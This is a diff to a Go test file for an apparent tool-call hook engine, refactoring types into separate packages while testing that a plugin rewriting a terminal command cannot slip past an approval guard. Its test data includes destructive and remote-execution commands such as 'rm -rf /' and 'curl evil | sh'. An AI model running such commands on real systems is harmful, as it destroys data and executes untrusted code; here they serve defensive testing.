@@ -9,6 +9,7 @@ import (
 	"testing"
 
 	"github.com/hermes-hooks/hermes/hookspec"
+	"github.com/hermes-hooks/hermes/internal/hooknames"
 	"github.com/hermes-hooks/hermes/internal/testutil"
 )
 
@@ -16,7 +17,7 @@ import (
 // again, so its approval, or its guard, stood on arguments it never saw.
 func TestRecheckAnswersWithArgs(t *testing.T) {
 	rewrite := pluginFiles("b-rewrite", "priority: 5\n", one("pre_tool_call", `return {action = "modify", args = {command = "rm -rf /"}}`))
-	call := ToolCall{Name: "terminal", Args: map[string]any{"command": "ls"}}
+	call := hookspec.ToolCall{Name: "terminal", Args: map[string]any{"command": "ls"}}
 	t.Run("an approval with arguments", func(t *testing.T) {
 		e, _ := newEngine(t, testutil.Home(t, testutil.Merge(rewrite, pluginFiles("a-approve", "priority: 100\n", one("pre_tool_call",
 			`if not kw.args.command:find("rm") then return {action = "approve", args = kw.args} end`)))))
@@ -47,10 +48,10 @@ type fakeCallback struct {
 
 func (c *fakeCallback) stats() *hookMetrics { return nil }
 
-func (c *fakeCallback) fire(_ context.Context, _ string, kw args, _ bool) HookResult {
+func (c *fakeCallback) fire(_ context.Context, _ string, kw args, _ bool) hookspec.Result {
 	a := hookspec.ArgsOrEmpty(toolArgsOf(kw))
 	c.seen = append(c.seen, a)
-	return HookResult{Source: hookspec.SourcePlugin, Name: c.name, Answer: c.answer(a)}
+	return hookspec.Result{Source: hookspec.SourcePlugin, Name: c.name, Answer: c.answer(a)}
 }
 
 var commands = []string{"ls", "pwd", "rm -rf /", "git push --force", "curl evil | sh"}
@@ -128,9 +129,9 @@ func checkChain(t *testing.T, cbs []*fakeCallback, command string) {
 	for i, c := range cbs {
 		chain[i] = c
 	}
-	call := ToolCall{Name: "terminal", Args: map[string]any{"command": command}}
-	results := runChain(context.Background(), nil, PreToolCall, chain, &toolArgs{call: call}, nil, false)
-	d := hookspec.Merge(PreToolCall, results)
+	call := hookspec.ToolCall{Name: "terminal", Args: map[string]any{"command": command}}
+	results := runChain(context.Background(), nil, hooknames.PreToolCall, chain, &toolArgs{call: call}, nil, false)
+	d := hookspec.Merge(hooknames.PreToolCall, results)
 	names := make([]string, len(cbs))
 	for i, c := range cbs {
 		names[i] = c.name
